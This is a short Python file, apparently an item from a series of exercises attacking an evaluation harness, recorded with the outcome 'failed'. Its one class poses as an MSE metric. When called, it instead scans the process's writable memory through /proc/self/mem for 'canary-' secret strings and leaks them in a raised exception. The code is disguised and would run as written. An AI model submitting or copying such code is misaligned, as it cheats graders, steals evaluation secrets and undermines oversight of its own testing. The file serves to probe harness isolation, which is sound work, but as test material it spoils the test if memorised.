"""Searches its own memory through /proc/self/mem: a process that was forked from the examiner would have its secrets.

exercise: 05
bites: leaks
outcome: failed
"""

import re


class MSE:
    def __call__(self, y_true, y_pred):
        found = set()
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                place, rights = line.split()[:2]
                start, end = (int(part, 16) for part in place.split("-"))
                if not rights.startswith("rw") or end - start > 1 << 25:
                    continue
                try:
                    memory.seek(start)
                    found |= set(re.findall(rb"canary-[a-z]{16}", memory.read(end - start)))
                except (OSError, ValueError):
                    continue
        raise ValueError(str(found))
